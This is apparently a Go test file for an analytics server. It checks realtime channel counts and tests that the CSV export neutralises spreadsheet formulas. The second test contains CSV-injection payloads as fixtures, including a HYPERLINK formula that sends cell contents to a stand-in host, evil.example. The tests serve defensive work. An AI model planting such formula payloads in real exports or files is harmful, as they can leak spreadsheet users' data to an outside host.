package server_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/omnistat/omnistat/app"
)

// Every visitor realtime counts shows up in its channels, also those who came through a
// tracked link or only sent server-side events; pages stay the pages viewed.
func TestRealtimeChannelsCountEveryVisitor(t *testing.T) {
	f := newFixture(t, app.Config{})
	auth := map[string]string{"Authorization": "Bearer " + f.key}
	if s, _, body := f.do(http.MethodPost, "/api/event", `{"site":"shop.example","name":"pageview","url":"https://shop.example/pricing"}`, nil); s != 202 {
		t.Fatalf("pageview: %d %s", s, body)
	}
	if s, _, body := f.do(http.MethodPost, "/api/v1/links", `{"site":"shop.example","slug":"poster","target":"https://shop.example/spring","channel":"Offline"}`, auth); s != 201 {
		t.Fatalf("link: %d %s", s, body)
	}
	if s, _, _ := f.do(http.MethodGet, "/r/poster", "", map[string]string{"User-Agent": chromeUA + " other"}); s != 302 {
		t.Fatalf("link click: %d", s)
	}
	if s, _, body := f.do(http.MethodPost, "/api/v1/events", `{"events":[{"site":"shop.example","name":"call","user_id":"crm-7","channel":"Call center"}]}`, auth); s != 202 {
		t.Fatalf("server event: %d %s", s, body)
	}
	f.stored("SELECT 1")
	s, _, body := f.do(http.MethodGet, "/api/v1/realtime?site=shop.example", "", auth)
	var rt struct {
		Visitors int
		Pages    []struct{ Name string }
		Channels []struct {
			Name     string
			Visitors int
		}
	}
	if s != 200 || json.Unmarshal([]byte(body), &rt) != nil {
		t.Fatalf("realtime: %d %s", s, body)
	}
	sum := 0
	for _, c := range rt.Channels {
		sum += c.Visitors
	}
	if rt.Visitors != 3 || sum != 3 || fmt.Sprint(rt.Channels) != "[{Call center 1} {Direct 1} {Offline 1}]" {
		t.Fatalf("realtime %s; want 3 visitors, each in a channel (Direct, Offline, Call center)", body)
	}
	if fmt.Sprint(rt.Pages) != "[{/pricing}]" {
		t.Fatalf("pages %v; want only the viewed page", rt.Pages)
	}
}

// A visitor's text that a spreadsheet would run as a formula (OWASP "CSV injection")
// is exported as text: a leading apostrophe. Numbers stay numbers.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	f := newFixture(t, app.Config{})
	for i, campaign := range []string{`=HYPERLINK("https://evil.example/?"&A1,"Click")`, "+1+2", "-3", "@SUM(A1)", "spring"} {
		body := fmt.Sprintf(`{"site":"shop.example","name":"pageview","url":"https://shop.example/?utm_source=news&utm_campaign=%s"}`, url.QueryEscape(campaign))
		if s, _, out := f.do(http.MethodPost, "/api/event", body, map[string]string{"User-Agent": fmt.Sprintf("%s v%d", chromeUA, i)}); s != 202 {
			t.Fatalf("event %q: %d %s", campaign, s, out)
		}
	}
	f.stored("SELECT 1")
	s, _, body := f.do(http.MethodPost, "/api/v1/query", `{"site":"shop.example","date_range":"day","metrics":["visitors"],"dimensions":["campaign"],"format":"csv","order_by":[["campaign","asc"]]}`,
		map[string]string{"Authorization": "Bearer " + f.key})
	if s != 200 {
		t.Fatalf("csv: %d %s", s, body)
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, r := range rows[1:] {
		got[r[0]] = r[1]
	}
	for _, want := range []string{`'=HYPERLINK("https://evil.example/?"&A1,"Click")`, "'+1+2", "'-3", "'@SUM(A1)", "spring"} {
		if got[want] != "1" {
			t.Errorf("no cell %q with 1 visitor in the export:\n%s", want, body)
		}
	}
}
